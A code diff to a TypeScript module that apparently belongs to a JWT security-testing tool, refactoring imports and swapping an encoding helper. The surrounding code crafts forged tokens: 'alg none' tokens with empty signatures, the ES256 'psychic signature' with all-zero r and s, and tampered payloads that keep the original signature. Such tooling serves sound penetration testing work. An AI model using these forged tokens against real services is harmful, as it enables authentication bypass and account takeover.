@@ -1,11 +1,10 @@
-import { parseKey } from '../keys/parse'
-import { toPem } from '../keys/parse'
+import { parseKey, toPem } from '../keys'
 import { err, ok, type Result } from '../result'
+import { asymmetricToken, base64urlEncode, hmacToken, utf8 } from '../token'
 import type { JWK, KeyFormat, ParsedKey } from '../types'
 import { bareJwk, generateAttackerKey, type AttackerKey } from './attacker-key'
 import { attackInfo } from './catalogue'
 import { compactObject, editJsonObject, type JsonEdit } from './header-edit'
-import { asymmetricToken, encodeSegment, hmacToken, utf8 } from './raw-sign'
 import type { AttackErrorCode, AttackExtra, AttackId, AttackInput, AttackerKeyType, CraftedToken } from './types'
 import { selfSignedCertificate } from './x509'
 
@@ -99,7 +98,7 @@ async function craftNone(input: AttackInput): Promise<CraftResult> {
   for (const casing of NONE_CASINGS) {
     const parts = prepare(input, { set: [['alg', JSON.stringify(casing)]] })
     if (!parts.ok) return parts
-    const token = `${encodeSegment(parts.value.header)}.${encodeSegment(parts.value.payload)}.`
+    const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.`
     tokens.push(crafted('alg-none', token, `alg "${casing}", empty signature`, `The header says "alg": "${casing}" and the signature part is empty.`))
   }
   return ok(tokens)
@@ -279,7 +278,7 @@ async function craftKid(input: AttackInput, id: AttackId, kid: string, secret: s
 async function craftPsychic(input: AttackInput): Promise<CraftResult> {
   const parts = prepare(input, { set: [['alg', '"ES256"']], remove: KEY_POINTERS })
   if (!parts.ok) return parts
-  const token = `${encodeSegment(parts.value.header)}.${encodeSegment(parts.value.payload)}.${encodeSegment(new Uint8Array(64))}`
+  const token = `${base64urlEncode(parts.value.header)}.${base64urlEncode(parts.value.payload)}.${base64urlEncode(new Uint8Array(64))}`
   return ok([crafted('psychic-signature', token, 'ES256 with r = 0 and s = 0', 'The signature is 64 zero bytes: r = 0 and s = 0.')])
 }
 
@@ -292,6 +291,6 @@ async function craftTampering(input: AttackInput): Promise<CraftResult> {
   }
   const payload = compactObject(input.payloadText, 'payload')
   if (!payload.ok) return payload
-  const token = `${segments[0]}.${encodeSegment(payload.value)}.${segments[2]}`
+  const token = `${segments[0]}.${base64urlEncode(payload.value)}.${segments[2]}`
   return ok([crafted('claim-tampering', token, 'Changed payload, original header and signature', 'The payload was replaced; the header and signature are the original ones, so the signature no longer matches.')])
 }
